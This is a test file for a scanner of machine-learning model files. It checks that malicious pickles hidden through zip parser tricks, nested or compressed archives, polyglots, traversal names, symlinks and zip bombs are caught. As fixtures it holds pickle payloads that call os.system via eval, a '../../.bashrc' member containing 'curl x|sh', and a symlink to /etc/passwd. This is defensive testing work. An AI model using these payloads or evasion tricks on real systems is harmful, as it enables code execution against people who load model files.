/**
 * Containers found by magic bytes, never by extension: the zip tricks of CVE-2025-1889/1944/1945/10156,
 * prepended data, duplicates, traversal, npz, legacy torch tar, 7z (nullifAI), nesting, polyglots and raw
 * tensor storages that merely look like pickles.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ScanResult } from '../../src/core/result.ts';
import { atLeast } from '../../src/core/severity.ts';
import { scanBytes } from '../../src/scan/engine.ts';
import { torchStateDictPickle } from '../fixtures/checkpoints.ts';
import { buildNpy } from '../fixtures/npy-writer.ts';
import { concat, pickle, reducePayload } from '../fixtures/pickle-writer.ts';
import { buildSevenZip, compressStream } from '../fixtures/sevenzip-writer.ts';
import { buildTar, legacyTorchTar } from '../fixtures/tar-writer.ts';
import { buildTorchZip, buildZip, type ZipMemberSpec } from '../fixtures/zip-writer.ts';

const EVAL = reducePayload('builtins', 'eval', ["__import__('os').system('id')"]);

function rules(r: ScanResult): string[] {
  return r.findings.map((f) => f.ruleId);
}

function assertCritical(r: ScanResult, member?: string): void {
  const hit = r.findings.find((f) => f.ruleId === 'model/pickle-dangerous-call');
  assert.ok(hit, `no dangerous call in ${JSON.stringify(r, null, 1)}`);
  if (member !== undefined) assert.equal(hit.location.member, member);
}

test('torch zip: payload in data.pkl is critical and located by member', async () => {
  assertCritical(await scanBytes(buildTorchZip(EVAL), 'model.pt'), 'archive/data.pkl');
});

test('benign torch zip with random tensor bytes: clean', async () => {
  const storages = [...Array(16)].map((_, i) =>
    Uint8Array.from({ length: 256 }, (_, j) => (i * 31 + j * 17) & 0xff),
  );
  const r = await scanBytes(buildTorchZip(torchStateDictPickle(8), { storages }), 'model.pt');
  assert.deepEqual(r.findings, []);
  assert.deepEqual(r.errors, []);
});

test('CVE-2025-1889: pickle in a member named data.txt is scanned (every member, by magic)', async () => {
  assertCritical(
    await scanBytes(buildZip([{ name: 'model/data.txt', data: EVAL }]), 'm.zip'),
    'model/data.txt',
  );
});

test('CVE-2025-1889 variant: protocol-0 pickle (no PROTO byte) in a .txt member', async () => {
  const p0 = pickle().global('os', 'system').mark().unicode0('id').tuple().reduce().stop().bytesOut();
  assertCritical(await scanBytes(buildZip([{ name: 'notes.txt', data: p0 }]), 'm.zip'), 'notes.txt');
});

test('CVE-2025-1944: local header name differs from the central directory', async () => {
  const r = await scanBytes(
    buildZip([{ name: 'archive/data.pkl', localName: 'archive/datap.kl', data: EVAL }]),
    'm.pt',
  );
  assertCritical(r, 'archive/data.pkl');
  assert.ok(rules(r).includes('model/archive-parser-differential'));
});

for (const flag of [0x1, 0x20, 0x40]) {
  test(`CVE-2025-1945: flag bit 0x${flag.toString(16)} on a stored plaintext member`, async () => {
    const r = await scanBytes(buildZip([{ name: 'archive/data.pkl', flags: flag, data: EVAL }]), 'm.zip');
    assertCritical(r, 'archive/data.pkl');
    assert.ok(rules(r).includes('model/archive-parser-differential'));
  });
}

test('CVE-2025-10156: bad CRC is reported and does not stop the scan', async () => {
  const r = await scanBytes(buildZip([{ name: 'archive/data.pkl', crc32: 0x12345678, data: EVAL }]), 'm.zip');
  assertCritical(r);
  assert.ok(
    r.findings.some((f) => f.ruleId === 'model/archive-parser-differential' && f.message.includes('CRC')),
  );
});

test('ZIP64 and prepended bytes: offsets are corrected and the payload found', async () => {
  const zip = buildZip([{ name: 'archive/data.pkl', data: EVAL }], {
    zip64: true,
    prepend: new Uint8Array(300).fill(0x41),
  });
  const r = await scanBytes(zip, 'm.zip');
  assertCritical(r);
  assert.ok(r.findings.some((f) => f.message.toLowerCase().includes('prepend')));
});

test('duplicate names: both members are scanned', async () => {
  const benign = torchStateDictPickle(1);
  const r = await scanBytes(
    buildZip([
      { name: 'archive/data.pkl', data: benign },
      { name: 'archive/data.pkl', data: EVAL },
    ]),
    'm.zip',
  );
  assertCritical(r);
  assert.ok(r.findings.some((f) => f.ruleId === 'model/archive-parser-differential'));
});

test('zip-slip: traversal names are high', async () => {
  const r = await scanBytes(
    buildZip([{ name: '../../.bashrc', data: new TextEncoder().encode('curl x|sh') }]),
    'm.zip',
  );
  const f = r.findings.find((x) => x.ruleId === 'model/archive-path-traversal');
  assert.ok(f && atLeast(f.severity, 'high'));
});

test('encrypted member: incomplete, never clean', async () => {
  // Real ZipCrypto output starts with a 12-byte random header: not a pickle, so it cannot be analysed.
  const cipher = Uint8Array.from({ length: 64 }, (_, i) => (i * 73 + 19) & 0xff);
  const r = await scanBytes(buildZip([{ name: 'secret.pkl', flags: 0x1, data: cipher }]), 'm.zip');
  assert.equal(r.errors.length, 1);
  assert.match(r.errors[0]!.error, /encrypted/);
  assert.ok(!r.findings.some((f) => atLeast(f.severity, 'high')));
});

test('raw tensor storage that starts like a pickle but is not one is ignored', async () => {
  const storage = Uint8Array.from([0x80, 0x02, 0x00, 0x13, 0x77, 0xff, 0x00, 0x01]);
  const r = await scanBytes(buildTorchZip(torchStateDictPickle(1), { storages: [storage] }), 'model.pt');
  assert.deepEqual(r.findings, []);
});

test('op flood hidden in a tensor storage member is reported, and bounded', async () => {
  const flood = new Uint8Array(2 + 3_000_000).fill(0x4e);
  flood[0] = 0x80;
  flood[1] = 0x02;
  const r = await scanBytes(buildTorchZip(torchStateDictPickle(1), { storages: [flood] }), 'model.pt');
  assert.ok(
    r.findings.some(
      (f) => f.ruleId === 'model/pickle-resource-exhaustion' && f.location.member === 'archive/data/0',
    ),
  );
});

test('npz with an object array: the embedded pickle is scanned', async () => {
  const npz = buildZip([
    { name: 'weights.npy', data: buildNpy({ descr: '<f4', shape: [2], data: new Uint8Array(8) }) },
    { name: 'meta.npy', data: buildNpy({ descr: '|O', shape: [1], data: EVAL }), method: 'deflate' },
  ]);
  const r = await scanBytes(npz, 'arrays.npz');
  assertCritical(r, 'meta.npy!data');
  assert.ok(rules(r).includes('model/numpy-object-array'));
});

test('legacy torch tar (torch 0.1): every member scanned', async () => {
  assertCritical(await scanBytes(legacyTorchTar(EVAL), 'old.pt'));
});

test('tar with a traversal name is high', async () => {
  const r = await scanBytes(buildTar([{ name: '../evil.pkl', data: EVAL }]), 'x.tar');
  assert.ok(rules(r).includes('model/archive-path-traversal'));
  assertCritical(r);
});

test('nullifAI: pickle inside a 7z archive', async () => {
  assertCritical(
    await scanBytes(await buildSevenZip([{ name: 'model.pkl', data: EVAL }]), 'model.7z'),
    'model.pkl',
  );
});

test('nested archives: zip in 7z in zip', async () => {
  const inner = buildZip([{ name: 'data.pkl', data: EVAL }]);
  const mid = await buildSevenZip([{ name: 'inner.zip', data: inner }]);
  const r = await scanBytes(buildZip([{ name: 'bundle.7z', data: mid }]), 'outer.zip');
  assertCritical(r, 'bundle.7z!inner.zip!data.pkl');
});

test('nesting deeper than the cap is reported as incomplete, not silently clean', async () => {
  let z = buildZip([{ name: 'data.pkl', data: torchStateDictPickle(1) }]);
  for (let i = 0; i < 8; i++) z = buildZip([{ name: `level${i}.zip`, data: z }]);
  const r = await scanBytes(z, 'deep.zip');
  assert.ok(r.errors.some((e) => /nested/.test(e.error)));
});

test('pickle/zip polyglot: both readings are analysed', async () => {
  const zip = buildZip([{ name: 'data.pkl', data: EVAL }]);
  const poly = concat(pickle().proto(2).none().stop().bytesOut(), zip);
  assertCritical(await scanBytes(poly, 'poly.pt'), 'data.pkl');
});

test('plain pickle named .bin (CVE-2025-10155) is scanned as a pickle', async () => {
  assertCritical(await scanBytes(EVAL, 'pytorch_model.bin'));
});

test('files that are not model formats are skipped, not flagged', async () => {
  const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
  const text = new TextEncoder().encode('config = {"layers": 12}\nname: bert\n');
  for (const bytes of [png, text]) {
    const r = await scanBytes(bytes, 'x.pt');
    assert.deepEqual(r.findings, []);
    assert.equal(r.skipped.length, 1);
  }
});

test('joblib compress=3 (zlib stream) and gzip-wrapped pickles are decompressed and scanned', async () => {
  const { deflateSync, gzipSync } = await import('node:zlib');
  assertCritical(await scanBytes(deflateSync(EVAL, { level: 3 }), 'model.joblib'), '(zlib)');
  assertCritical(
    await scanBytes(gzipSync(buildTorchZip(EVAL)), 'model.pt.gz'),
    '(gzip)/model.pt!archive/data.pkl',
  );
});

test('bzip2 and xz streams are decompressed through 7-Zip and scanned', async () => {
  for (const type of ['bzip2', 'xz'] as const) {
    const packed = await compressStream(EVAL, type);
    assertCritical(await scanBytes(packed, `model.pkl.${type}`), type === 'bzip2' ? '(bz2)' : '(xz)');
  }
});

test('a corrupt bzip2 stream makes the scan incomplete, never clean', async () => {
  const bz2 = Uint8Array.from([0x42, 0x5a, 0x68, 0x39, 0x31, 0x41, 0x59, 0x26, 0x53, 0x59]);
  const r = await scanBytes(bz2, 'model.joblib');
  assert.equal(r.errors.length, 1);
  assert.match(r.errors[0]!.error, /bz2/);
});

test('a text file that happens to start like a zlib header is not a model', async () => {
  const r = await scanBytes(new TextEncoder().encode('x^2 + y^2 = r^2\n'), 'notes.txt');
  assert.deepEqual(r.findings, []);
  assert.deepEqual(r.errors, []);
  assert.equal(r.skipped.length, 1);
});

test('7z: a damaged decoy entry does not hide the payload in an intact one', async () => {
  const archive = await buildSevenZip(
    [
      { name: 'a/data.pkl', data: EVAL },
      { name: 'a/notes.txt', data: 'release notes '.repeat(40) },
    ],
    { solid: false },
  );
  let partial = 0;
  for (let at = 32; at < Math.min(archive.length - 40, 140); at++) {
    const damaged = Uint8Array.from(archive);
    damaged[at]! ^= 0x55;
    const r = await scanBytes(damaged, 'model.7z');
    // Fail closed at every position: either the payload is found or the scan says it is incomplete.
    assert.ok(
      r.errors.length > 0 || r.findings.some((f) => f.ruleId === 'model/pickle-dangerous-call'),
      `byte ${at}`,
    );
    if (r.errors.length > 0 && r.findings.some((f) => f.ruleId === 'model/pickle-dangerous-call')) partial++;
  }
  assert.ok(partial > 0, 'no damaged position left the payload entry readable');
});

test('zip bombs: decompressed bytes are budgeted per file, and past the budget the scan is incomplete', async () => {
  const zeros = new Uint8Array(600 * 1024);
  const members: ZipMemberSpec[] = ['a', 'b', 'c', 'd'].map((n) => ({
    name: `${n}.bin`,
    data: zeros,
    method: 'deflate',
  }));
  const bomb = buildZip([...members, { name: 'z/data.pkl', data: EVAL, method: 'deflate' }]);
  const r = await scanBytes(bomb, 'bomb.zip', { maxExpandedBytes: 1024 * 1024 });
  assert.ok(
    r.errors.some((e) => /expansion budget/.test(e.error)),
    JSON.stringify(r.errors),
  );
  const nested = buildZip([{ name: 'inner.zip', data: bomb, method: 'deflate' }]);
  const rn = await scanBytes(nested, 'nested.zip', { maxExpandedBytes: 1024 * 1024 });
  assert.ok(
    rn.errors.some((e) => /expansion budget/.test(e.error)),
    'the budget is shared by nested archives',
  );
  const full = await scanBytes(bomb, 'bomb.zip');
  assertCritical(full, 'z/data.pkl');
});

test('zip symlinks (Unix mode in the central directory) are reported, high when they leave the root', async () => {
  const link = (target: string) =>
    buildZip([
      { name: 'archive/data.pkl', data: torchStateDictPickle(1) },
      { name: 'archive/weights.bin', data: new TextEncoder().encode(target), unixMode: 0o120777 },
    ]);
  const out = await scanBytes(link('../../../../etc/passwd'), 'linked.zip');
  assert.ok(rules(out).includes('model/archive-path-traversal'), JSON.stringify(out.findings));
  const inside = await scanBytes(link('data.pkl'), 'linked.zip');
  assert.ok(!rules(inside).includes('model/archive-path-traversal'));
  assert.ok(
    inside.findings.some(
      (f) => f.ruleId === 'model/archive-parser-differential' && /symbolic link/.test(f.message),
    ),
  );
});

test('a member inflating at over 200:1 is reported as a bomb', async () => {
  const zip = buildZip([{ name: 'padding.bin', data: new Uint8Array(32 << 20), method: 'deflate' }]);
  const r = await scanBytes(zip, 'bomb.zip');
  const f = r.findings.find((x) => x.ruleId === 'model/archive-bomb');
  assert.ok(f, JSON.stringify(r.findings));
  assert.match(f.message, /inflates \d+ bytes to 33554432/);
});
